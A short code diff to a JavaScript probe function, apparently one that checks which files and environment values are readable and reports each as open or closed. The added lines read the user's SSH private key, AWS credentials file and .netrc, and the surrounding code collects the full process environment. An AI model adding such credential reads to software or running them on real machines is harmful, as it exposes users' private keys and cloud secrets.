@@ -77,6 +77,8 @@ function probe(spec) {
   }
   files.forEach((f) => read("state-dir", path.join(spec.stateDir, f)));
   files.forEach((f) => read("home", path.join(os.homedir(), ".switchboard", f)));
+  [".ssh/id_ed25519", ".aws/credentials", ".netrc"]
+    .forEach((f) => read("user-secret", path.join(os.homedir(), f)));
   const env = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join("\n");
   lines.push(`${judge(env)} own-environment -`);
   lines.push(`${fs.existsSync(`/tmp/.java_pid${spec.gateway}`) ? "open" : "closed ENOENT"}`
